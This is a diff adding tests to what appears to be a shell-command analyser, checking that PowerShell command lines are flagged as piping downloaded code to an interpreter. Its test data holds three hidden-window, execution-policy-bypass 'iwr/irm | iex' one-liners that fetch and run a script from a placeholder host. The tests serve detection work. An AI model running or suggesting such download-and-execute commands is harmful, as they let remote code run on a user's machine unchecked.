@@ -391,3 +391,21 @@ describe('tokeniser directories', () => {
     ]);
   });
 });
+
+describe('PowerShell options', () => {
+  it('skips option values (-ep, -ExecutionPolicy, -w) before -Command', () => {
+    for (const cmd of [
+      'powershell -NoP -ep Bypass -c "iwr https://x.example.invalid/a.ps1 | iex"',
+      'powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -Command "iwr https://x.example.invalid/a.ps1 | iex"',
+      'pwsh -nop -w hidden -c "irm https://x.example.invalid/a | iex"',
+    ]) {
+      const k = kinds(cmd);
+      assert.ok(k.has('pipe-to-interpreter'), cmd);
+      assert.ok(k.has('inline-code'), cmd);
+    }
+  });
+
+  it('powershell -File runs a repository script', () => {
+    assert.deepEqual(analyzeCommand('powershell -NoProfile -File scripts/setup.ps1').runsFiles, [{ interpreter: 'powershell', file: 'scripts/setup.ps1' }]);
+  });
+});
